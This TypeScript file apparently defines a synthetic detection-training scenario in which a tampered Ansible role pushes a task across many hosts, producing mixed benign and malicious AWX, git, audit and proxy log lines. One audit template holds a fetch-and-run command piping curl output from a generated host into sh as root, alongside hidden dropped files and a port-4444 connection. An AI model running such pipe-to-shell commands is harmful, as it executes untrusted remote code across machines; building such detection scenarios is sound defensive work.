import { defineScenario } from '../../scenario.ts'
import { background } from '../../fragments/background.ts'
import { compared } from '../../fragments/compared.ts'
import { destination } from '../../fragments/destination.ts'
import { aftermath } from '../../fragments/aftermath.ts'
import { entry } from '../../fragments/entry.ts'
import { lean } from '../../fragments/lean.ts'
import { remark } from '../../fragments/remark.ts'

export default defineScenario({
  risk: 'Malicious Code Execution',
  title: 'A configuration run brings a new task to many machines',
  clues: [
    'The role that carries the task was replaced on the controller, not in version control',
    'The task runs a command with elevated rights on hosts outside its own group',
    'The digest of the role differs from the tagged release',
    'The run was started by hand, at an hour without change window, with checks off',
    'Each host then fetched a file from {host} and started it',
  ],
  steps: (story) => {
    const { make, either, pick, whole, note } = story
    const from = destination(story, 'fetch')
    const digest = compared(story, 'role')
    const user = either(make.user('starter'), pick('starter', ['awx', make.user('starter')]))
    const hosts = whole('hosts', 4, 60)
    const role = pick('role', ['common', 'hardening', 'ntp', 'users'])
    note('host', from.host)
    const host = (nth: number) => [
      entry(
        'ansible',
        'task',
        {
          host: make.host(`node ${nth}`),
          task: either(
            pick('task', ['tune kernel', 'fix locale', 'sync time']),
            pick('task', ['tune kernel', 'fix locale', 'sync time']),
          ),
          module: either('shell', pick('module', ['template', 'package', 'shell'])),
          become: true,
          rc: 0,
        },
        ['{host}: {task} by {module}, become {become}: {rc}', 'TASK [{task}] {host} module={module} rc={rc}'],
      ),
      entry(
        'audit',
        'exec',
        {
          host: make.host(`node ${nth}`),
          pid: make.pid(`node ${nth}`),
          uid: 0,
          auid: make.uid('ansible', 'service'),
          cmd: either(
            `sh -c "curl -s ${from.host} | sh"`,
            pick('usual', [
              'timedatectl set-ntp 1',
              'sysctl --system',
              'locale-gen',
              `sh -c "curl -sf ${from.host}/health"`,
            ]),
          ),
        },
        ['{host}: {cmd} as uid {uid} (auid {auid})', 'execve {cmd} uid={uid} auid={auid}'],
      ),
    ]
    return [
      entry(
        'awx',
        'job_launch',
        {
          job: whole('job', 100, 9000),
          user,
          check_mode: lean(story, 'check', [false], [true]),
          hour: either(whole('night', 1, 4), whole('day', 8, 17)),
          window: either('none', pick('window', ['weekly', 'CAB'])),
        },
        [
          'job {job} by {user} at {hour}h, window {window}, check {check_mode}',
          'launch {job} user={user} window={window}',
        ],
      ),
      entry(
        'controller',
        'role_changed',
        {
          path: `/etc/ansible/roles/${role}/tasks/main.yml`,
          by: either(make.user('starter'), 'git-sync'),
          mtime_age_s: either(whole('fresh', 60, 900), whole('old', 90_000, 9_000_000)),
          uid: either(make.uid('starter'), make.uid('git', 'service')),
        },
        ['{path} by {by}, {mtime_age_s}s ago', '{path} uid={uid} age={mtime_age_s}'],
      ),
      entry(
        'controller',
        'role_digest',
        {
          role,
          sha256_expected: digest.expected,
          sha256_actual: digest.actual,
          result: digest.verdict,
          tag: make.version('role'),
        },
        ['{role} {tag}: {sha256_expected} tagged, {sha256_actual} on disk: {result}', 'role {role} {result}'],
      ),
      entry(
        'git',
        'status',
        {
          role,
          commit: either('uncommitted', make.id('commit')),
          reviewed_by: either(pick('nobody', ['none', '-']), make.user('reviewer')),
        },
        ['{role} at {commit}, reviewed by {reviewed_by}', 'git {role} {commit} review={reviewed_by}'],
      ),
      ...background(story, 'one'),
      ...background(story, 'besides'),
      ...background(story, 'elsewhere'),
      entry(
        'ansible',
        'play',
        {
          hosts,
          group: either('all', pick('group', ['web', 'db', 'all'])),
          limit: lean(story, 'limit', ['none', 'all'], ['canary', '10%']),
          forks: 10,
        },
        ['play on {hosts} hosts of {group}, limit {limit}', 'PLAY [{group}] hosts={hosts} limit={limit}'],
      ),
      ...host(0),
      ...host(1),
      entry(
        'proxy',
        'download',
        {
          host: from.host,
          dst_ip: from.address,
          clients: hosts,
          bytes_in: make.bytes('fetched', 2000, 900_000),
          listed: from.listed,
        },
        [
          '{clients} machines took {bytes_in} bytes from {host}, listed {listed}',
          'GET {host} clients={clients} listed={listed}',
        ],
      ),
      entry(
        'audit',
        'create',
        {
          host: make.host('node 0'),
          path: either(
            pick('left', ['/usr/lib/.t', '/tmp/.ntp', '/var/tmp/upd']),
            pick('file', ['/etc/chrony/chrony.conf', '/etc/sysctl.d/90-tune.conf']),
          ),
          mode: either('0755', '0644'),
          sha256: make.digest('left'),
        },
        ['{host}: {path} mode {mode}', 'create {path} {mode} sha256={sha256}'],
      ),
      entry(
        'audit',
        'connect',
        {
          host: make.host('node 1'),
          dst_ip: either(from.address, make.insideAddress('ntp')),
          dst_port: either(pick('port', [443, 4444, 8080]), pick('ntp port', [123, 443])),
          uid: 0,
        },
        ['{host} to {dst_ip}:{dst_port}, uid {uid}', 'connect {dst_ip}:{dst_port} uid={uid}'],
      ),
      entry(
        'ansible',
        'recap',
        {
          ok: whole('ok', 4, 60),
          changed: either(hosts, whole('changed', 0, 4)),
          failed: lean(story, 'failed', [0], [0, 1]),
        },
        ['ok={ok} changed={changed} failed={failed}', '{changed} of the hosts changed, {failed} failed'],
      ),
      ...aftermath(story),
      remark(story, 'run', `role ${role}`),
    ]
  },
})
